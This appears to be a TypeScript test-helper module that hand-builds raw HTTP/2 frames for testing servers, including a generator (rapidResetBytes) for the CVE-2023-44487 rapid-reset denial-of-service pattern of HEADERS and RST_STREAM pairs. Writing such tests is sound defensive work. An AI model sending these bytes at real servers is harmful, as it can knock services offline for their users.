// Raw HTTP/2 frames for attack-shaped tests (RFC 9113 §4.1): what a hostile client writes,
// byte for byte, without a client library smoothing it over.
export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

export const FRAME = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, CONTINUATION: 9 } as const;

export function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** An HPACK block for GET http://<authority>/ (static-table indexes, literal authority). */
export function getHeaderBlock(authority: string): Buffer {
  const a = Buffer.from(authority, 'latin1');
  return Buffer.concat([Buffer.from([0x82, 0x86, 0x84, 0x01, a.length]), a]);
}

/**
 * The rapid-reset shape of CVE-2023-44487: preface, empty SETTINGS, then `n` pairs of
 * HEADERS(END_STREAM|END_HEADERS) + RST_STREAM(CANCEL), all in one write.
 */
export function rapidResetBytes(n: number, authority = '127.0.0.1'): Buffer {
  const block = getHeaderBlock(authority);
  const cancel = Buffer.from([0, 0, 0, 8]);
  const parts = [PREFACE, frame(FRAME.SETTINGS, 0, 0)];
  for (let i = 0; i < n; i++) parts.push(frame(FRAME.HEADERS, 0x5, 2 * i + 1, block), frame(FRAME.RST_STREAM, 0, 2 * i + 1, cancel));
  return Buffer.concat(parts);
}

/** Frame types and GOAWAY error codes in a server's answer. */
export function parseFrames(buf: Buffer): { type: number; flags: number; streamId: number; payload: Buffer }[] {
  const out = [];
  let i = 0;
  while (i + 9 <= buf.length) {
    const len = buf.readUIntBE(i, 3);
    if (i + 9 + len > buf.length) break;
    out.push({ type: buf[i + 3] as number, flags: buf[i + 4] as number, streamId: buf.readUInt32BE(i + 5) & 0x7fffffff, payload: buf.subarray(i + 9, i + 9 + len) });
    i += 9 + len;
  }
  return out;
}
